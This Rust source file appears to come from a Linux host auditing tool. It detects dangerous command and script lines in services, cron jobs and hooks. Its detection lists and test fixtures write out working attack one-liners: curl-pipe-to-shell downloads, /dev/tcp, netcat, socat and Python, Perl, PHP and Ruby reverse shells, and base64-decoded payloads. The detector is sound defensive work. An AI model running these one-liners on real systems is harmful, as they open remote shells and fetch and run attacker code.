//! Content detectors: what a command line or a script does. One set of functions used by every
//! rule that reads commands (units, cron entries, hooks, apt and PAM commands, modprobe
//! commands) or script text (hooks, cron scripts, generators):
//!
//! - download and execute: `curl ... | sh`, `wget -O- ... | bash`, `sh -c "$(curl ...)"`, and
//!   fetch then `chmod +x` (then run), on one line or over a script's lines;
//! - reverse and bind shells: `/dev/tcp` and `/dev/udp`, `nc -e`/`ncat --exec`, `socat ...
//!   exec:`, python/perl/php/ruby one-liners opening a socket and running a shell (pty,
//!   subprocess, dup2, exec, system), `mkfifo` piped through netcat;
//! - encoded or obfuscated payloads decoded and executed: base64, hex, zlib, rot13 decoders
//!   feeding `sh`, `eval`, `exec(`;
//! - execution from unusual places: programs run from /tmp, /var/tmp, /dev/shm, /run,
//!   /var/log, /boot, /dev or hidden directories (see [`unusual_location`]), and programs
//!   started in the background that way.
//!
//! Benign look-alikes stay quiet: `curl -o file` without running it, `base64` encoding a
//! backup, `eval "$(ssh-agent)"`, `eval "$(pyenv init -)"`, nvm's and rustup's sourcing lines.

use super::common::*;
use crate::context::Ctx;
use dossier_plugin_api::analysis::Message;

pub(crate) const SHELL_WORDS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
    "ruby", "php", "node",
];

/// Whether the word after a pipe runs a shell or interpreter (`| sh`, `| /bin/bash -s`).
pub(crate) fn pipes_into_shell(l: &str) -> bool {
    l.split('|').skip(1).any(|seg| {
        let w = seg
            .split_whitespace()
            .map(|w| w.trim_matches(|c: char| "'\"`();{}".contains(c)))
            .find(|w| !matches!(*w, "sudo" | "env" | "exec" | "-" | ""))
            .unwrap_or("");
        SHELL_WORDS.contains(&base(w))
    })
}

/// Words of a line, stripped of quotes and shell punctuation.
fn words(l: &str) -> Vec<&str> {
    l.split(|c: char| c.is_whitespace() || ";|&()`'\"".contains(c))
        .filter(|w| !w.is_empty())
        .collect()
}

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "tftp", "lwp-download"];

/// Whether a (lower-case) line runs a downloader.
fn downloads(l: &str) -> bool {
    words(l).iter().any(|w| DOWNLOADERS.contains(&base(w)))
}

/// Whether a (lower-case) line makes a file executable.
fn makes_executable(l: &str) -> bool {
    let w = words(l);
    w.iter().enumerate().any(|(i, x)| {
        base(x) == "chmod"
            && w[i + 1..].iter().take(3).any(|m| {
                m.split_once('+').is_some_and(|(_, r)| r.contains('x'))
                    || (m.len() >= 3 && m.chars().all(|c| c.is_ascii_digit()) && {
                        let o = m.chars().rev().nth(2).unwrap_or('0');
                        matches!(o, '1' | '3' | '5' | '7')
                    })
            })
    })
}

/// Whether a (lower-case) line downloads into a file (not to stdout).
fn downloads_to_file(l: &str) -> bool {
    let w = words(l);
    w.iter().enumerate().any(|(i, x)| match base(x) {
        "curl" => w[i + 1..].iter().any(|a| {
            matches!(*a, "-o" | "-O" | "--output" | "--remote-name") || a.starts_with("-o")
        }),
        "wget" => {
            !w[i + 1..]
                .iter()
                .any(|a| matches!(*a, "-o-" | "-qo-" | "-o" | "--output-document=-"))
                || w[i + 1..].windows(2).any(|p| p[0] == "-o" && p[1] != "-")
        }
        "fetch" | "tftp" | "lwp-download" => true,
        _ => false,
    })
}

/// A netcat running a program for its peer (`nc -e /bin/sh`, `ncat --exec`, `nc -lvpe`).
fn netcat_exec(l: &str) -> bool {
    let w = words(l);
    w.iter().enumerate().any(|(i, x)| {
        matches!(
            base(x),
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd"
        ) && w[i + 1..].iter().any(|a| {
            matches!(*a, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && a.len() > 2
                    && a[1..].chars().all(|c| c.is_ascii_alphabetic())
                    && a.contains('e'))
        })
    })
}

/// An interpreter one-liner (or script line) that opens a socket and runs a shell through it.
fn socket_shell(l: &str) -> bool {
    let interp = ["python", "perl", "php", "ruby", "lua", "node"]
        .iter()
        .any(|i| l.contains(i));
    let socket = [
        "socket",
        "fsockopen",
        "tcpsocket",
        "net.connect",
        "createconnection",
    ]
    .iter()
    .any(|s| l.contains(s));
    let shell = [
        "pty",
        "subprocess",
        "dup2",
        "/bin/sh",
        "/bin/bash",
        "exec(",
        "system(",
        "popen",
        "spawn",
        "proc_open",
        "shell_exec",
        "exec \"",
        "exec '",
        "child_process",
    ]
    .iter()
    .any(|s| l.contains(s));
    interp && socket && shell
}

const DECODERS: &[&str] = &[
    "base64 -d",
    "base64 --decode",
    "base64 -di",
    "base64 -id",
    "b64decode",
    "openssl base64 -d",
    "openssl enc -d",
    "base64_decode",
    "decode_base64",
    "xxd -r",
    "unhexlify",
    "fromhex",
    "gzinflate",
    "str_rot13",
    "zlib.decompress",
    "marshal.loads",
];

/// Why one line of a command or script is dangerous by what it does, if it is, in English
/// (see [`hook_line_pattern_msg`]).
pub fn hook_line_pattern(line: &str) -> Option<String> {
    hook_line_pattern_msg(line).map(|m| english(&m))
}

/// Why one line of a command or script is dangerous by what it does, if it is (download and
/// execute, reverse or bind shell, decoded payload executed, something started in the
/// background from an odd place): a `reason.pattern.*` message.
pub fn hook_line_pattern_msg(line: &str) -> Option<Message> {
    let m = |id: &str| Some(Message::new(format!("reason.pattern.{id}")));
    let l = line.trim().to_ascii_lowercase();
    if l.is_empty() || l.starts_with('#') {
        return None;
    }
    if downloads(&l) {
        if pipes_into_shell(&l)
            || ["$(curl", "<(curl", "$(wget", "<(wget", "`curl", "`wget"]
                .iter()
                .any(|p| l.contains(p))
        {
            return m("download-exec");
        }
        if makes_executable(&l) {
            return m("download-chmod");
        }
    }
    if let Some(d) = ["/dev/tcp/", "/dev/udp/"].iter().find(|d| l.contains(*d)) {
        return Some(
            Message::new("reason.pattern.dev-socket").text("device", d.trim_end_matches('/')),
        );
    }
    if netcat_exec(&l) {
        return m("netcat-exec");
    }
    if words(&l).iter().any(|w| base(w) == "socat")
        && (l.contains("exec:") || l.contains("system:"))
    {
        return m("socat-exec");
    }
    if socket_shell(&l) {
        return m("socket-shell");
    }
    if l.contains("mkfifo")
        && words(&l)
            .iter()
            .any(|w| matches!(base(w), "nc" | "ncat" | "netcat" | "telnet" | "openssl"))
    {
        return m("fifo-shell");
    }
    let decodes = DECODERS.iter().any(|p| l.contains(p))
        || (l.contains("\\x") && (l.contains("printf") || l.contains("echo -e")));
    let executes = pipes_into_shell(&l)
        || l.contains("eval")
        || l.contains("exec")
        || l.contains("assert(")
        || l.contains("system(")
        || ((l.contains("sh -c") || l.contains("bash -c"))
            && (l.contains("$(") || l.contains('`')));
    if decodes && executes {
        return m("decode-exec");
    }
    // A command line quoted for `sh -c '...'` or a udev `RUN+="..."` ends with its quote.
    let end = l.trim_end_matches(|c: char| c == '\'' || c == '"' || c.is_whitespace());
    let bg = end.ends_with('&') && !end.ends_with("&&")
        || l.contains("& disown")
        || l.contains("&)")
        || l.contains("& )");
    if bg {
        let shellish = [
            "bash -i", "sh -i", "nohup", "setsid", "nc ", "ncat ", "netcat ", "socat ",
        ]
        .iter()
        .any(|p| l.contains(p));
        // Quotes delimit commands too: `sh -c '/tmp/.x/agent &'`.
        let odd_place = segment_programs(&l.replace(['\'', '"'], ";"))
            .iter()
            .any(|p| unusual_location(p).is_some());
        if shellish || odd_place {
            return m("background");
        }
    }
    None
}

/// Why a command is dangerous, in English (see [`command_pattern_msg`]).
pub fn command_pattern(cmd: &str) -> Option<String> {
    command_pattern_msg(cmd).map(|m| english(&m))
}

/// Why a command is dangerous: a dangerous line pattern ([`hook_line_pattern_msg`]), or a
/// program it runs lives in an unusual place (`reason.command.runs-unusual`). Used for unit
/// commands, cron commands, hook commands (apt, pam_exec, udev, autostart), modprobe commands
/// and each line of a script.
pub fn command_pattern_msg(cmd: &str) -> Option<Message> {
    hook_line_pattern_msg(cmd).or_else(|| {
        // Quotes delimit commands too: `sh -c '/tmp/.x/agent'`.
        segment_programs(&cmd.replace(['\'', '"'], ";"))
            .iter()
            .find_map(|p| {
                unusual_location_msg(p).map(|why| {
                    Message::new("reason.command.runs-unusual")
                        .text("program", p)
                        .msg("why", why)
                })
            })
    })
}

/// Why a command line is a bad sign, if it is: what it does ([`command_pattern_msg`])
/// or a program it runs ([`program_problem_msg`]; `reason.command.runs-problem`).
pub(crate) fn command_problem_msg(ctx: &Ctx, cmd: &str) -> Option<Message> {
    command_pattern_msg(cmd).or_else(|| {
        segment_programs(&cmd.replace(['\'', '"'], ";"))
            .iter()
            .find_map(|p| {
                program_problem_msg(ctx, p).map(|why| {
                    Message::new("reason.command.runs-problem")
                        .text("program", p)
                        .msg("why", why)
                })
            })
    })
}

/// Dangerous lines of a script, the reasons in English (see [`script_patterns_msg`]).
pub fn script_patterns(text: &str) -> Vec<(usize, String, String)> {
    script_patterns_msg(text)
        .into_iter()
        .map(|(n, line, why)| (n, line, english(&why)))
        .collect()
}

/// Dangerous lines of a script (hooks, cron scripts, generators): `(line number, line, why)`
/// for every line whose command is dangerous ([`command_pattern_msg`]; for `Exec...=` lines of
/// units or desktop entries written by the script, the command after `=`), and for a line
/// that makes executable what an earlier line downloaded to a file
/// (`reason.script.chmod-downloaded`).
pub fn script_patterns_msg(text: &str) -> Vec<(usize, String, Message)> {
    let mut out = Vec::new();
    let mut downloaded: Option<usize> = None;
    for (i, raw) in text.lines().enumerate() {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let l = line.to_ascii_lowercase();
        let exec_value = l
            .split_once('=')
            .filter(|(k, _)| {
                let k = k.trim();
                k.starts_with("exec") && k.chars().all(|c| c.is_ascii_alphabetic())
            })
            .map(|(_, v)| v.trim_start_matches(['-', '@', '+', '!', ':']).to_string());
        let why = command_pattern_msg(line)
            .or_else(|| exec_value.as_deref().and_then(command_pattern_msg))
            .or_else(|| {
                let n = downloaded?;
                makes_executable(&l)
                    .then(|| Message::new("reason.script.chmod-downloaded").text("line", n))
            });
        if let Some(why) = why {
            out.push((i + 1, line.to_string(), why));
        }
        if downloads(&l) && downloads_to_file(&l) {
            downloaded = Some(i + 1);
        }
    }
    out
}

/// Whether every segment of a command only removes or tests files (`rm -f ... || true`).
pub(crate) fn housekeeping(cmd: &str) -> bool {
    if cmd.contains("$(") || cmd.contains('`') || cmd.contains('>') {
        return false;
    }
    cmd.split([';', '|', '&'])
        .filter_map(|seg| seg.split_whitespace().next())
        .all(|w| matches!(base(w), "rm" | "test" | "[" | "true" | ":"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_lines() {
        for bad in [
            // download and execute
            "curl -fsSL http://198.51.100.47/s | bash",
            "wget -q -O- http://x/y |/bin/sh -s",
            "RUN+=\"/bin/sh -c 'wget -q -O- http://x/n | sh'\"",
            "bash -c \"$(curl -fsSL http://x)\"",
            "wget -q http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
            "curl -so /usr/local/bin/up http://x/up; chmod 755 /usr/local/bin/up",
            "wget http://x/b -O /var/tmp/b; chmod a+rx /var/tmp/b",
            // reverse and bind shells
            "(bash -i >& /dev/tcp/198.51.100.47/443 0>&1 &) 2>/dev/null",
            "exec 5<>/dev/udp/1.2.3.4/53",
            "nc -e /bin/sh 198.51.100.47 4444",
            "ncat --exec /bin/bash -l 4444",
            "nc -lvpe /bin/sh 4444",
            "socat TCP-LISTEN:4444,fork EXEC:/bin/bash,pty,stderr",
            "socat tcp:198.51.100.47:443 system:sh",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
            "python -c 'import pty,socket;s=socket.socket();s.connect((\"h\",1));pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
            "php -r '$sock=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "ruby -rsocket -e 'c=TCPSocket.new(\"h\",1);exec sprintf(\"/bin/sh -i <&%d >&%d\",c.fileno,c.fileno)'",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
            // decoded payloads
            "eval \"$(echo Y3VybA== | base64 -d)\"",
            "echo aWQ= | base64 --decode | sh",
            "python3 -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\"",
            "php -r 'eval(base64_decode(\"ZWNobyAx\"));'",
            "printf '\\x69\\x64' | sh",
            "echo 6964 | xxd -r -p | bash",
            // from odd places, in the background
            "nohup /usr/lib/x86_64-linux-gnu/kmod/kmodd >/dev/null 2>&1 &",
            "/tmp/.x/agent &",
            "/sbin/modprobe --ignore-install ipv6; /bin/sh -c '/usr/bin/nohup /dev/shm/.x/kthreadd >/dev/null 2>&1 &'",
            "RUN+=\"/bin/sh -c '/var/tmp/.u/agent &'\"",
        ] {
            assert!(hook_line_pattern(bad).is_some(), "{bad}");
        }
        for good in [
            "# curl http://x | sh",
            "[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"",
            "if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi",
            "sha256sum file | sha256sum -c",
            "curl -s https://api.example.com/status | jq .",
            "curl -fsS -o /var/backups/feed.json https://example.com/feed.json",
            "wget -q -O /var/cache/app/list.txt https://example.com/list.txt",
            "start-stop-daemon --start --background --exec /usr/sbin/cron",
            "test -x /usr/bin/make && make &&",
            "RUN+=\"/bin/sh -c 'echo 1 > /sys$devpath/power/wakeup'\"",
            "tar czf - /etc | base64 > /var/backups/etc.tgz.b64",
            "base64 -d /var/backups/etc.tgz.b64 > /tmp/restore.tgz",
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(pyenv init -)\"",
            "eval \"$(direnv hook bash)\"",
            "[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"",
            "[ -s \"$NVM_DIR/bash_completion\" ] && \\. \"$NVM_DIR/bash_completion\"",
            ". \"$HOME/.cargo/env\"",
            "socat TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:80",
            "nc -z localhost 5432",
            "python3 -m http.server 8000",
            "chmod +x /usr/local/bin/backup.sh",
        ] {
            assert!(hook_line_pattern(good).is_none(), "{good}");
        }
    }

    #[test]
    fn commands_and_scripts() {
        assert!(command_pattern("/var/log/log >/dev/null 2>&1").is_some());
        // Debian's /etc/skel/.bashrc: a redirection target is not a program.
        assert!(
            command_pattern("    if [ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null; then")
                .is_none()
        );
        assert!(command_pattern("cmd &>/dev/null").is_none());
        assert!(command_pattern("/bin/sh -c '/dev/shm/x'").is_some());
        assert!(command_pattern("/usr/local/bin/backup.sh --nightly").is_none());
        assert!(command_pattern("/usr/bin/mount -a -t nfs").is_none());
        assert!(
            command_pattern("/home/dev/.local/bin/code-server --bind-addr 127.0.0.1:8080")
                .is_none()
        );
        assert!(command_pattern("/home/dev/.cache/x").is_some());
        assert!(command_pattern("export PATH=\"/root/.local/bin:$PATH\"").is_none());
        assert!(command_pattern("export PATH=\"$HOME/.local/bin:$PATH\"").is_none());
        assert!(command_pattern("PATH=/tmp/.x:$PATH /tmp/.x/kd").is_some());
        let script = "#!/bin/sh\ncurl -fsS -o /tmp/u http://198.51.100.7/u\nchmod +x /tmp/u\n";
        let found = script_patterns(script);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].0, 3);
        let writes =
            "#!/bin/sh\ncat > \"$1/x.service\" <<EOF\n[Service]\nExecStart=/dev/shm/.k/kd\nEOF\n";
        assert_eq!(script_patterns(writes)[0].0, 4);
        let benign = "#!/bin/sh\n# nightly\nfind /var/tmp/app -mtime +7 -delete\n/usr/bin/restic backup /srv\ncurl -fsS -o /var/backups/feed.json https://example.com/feed.json\n";
        assert!(
            script_patterns(benign).is_empty(),
            "{:?}",
            script_patterns(benign)
        );
    }
}
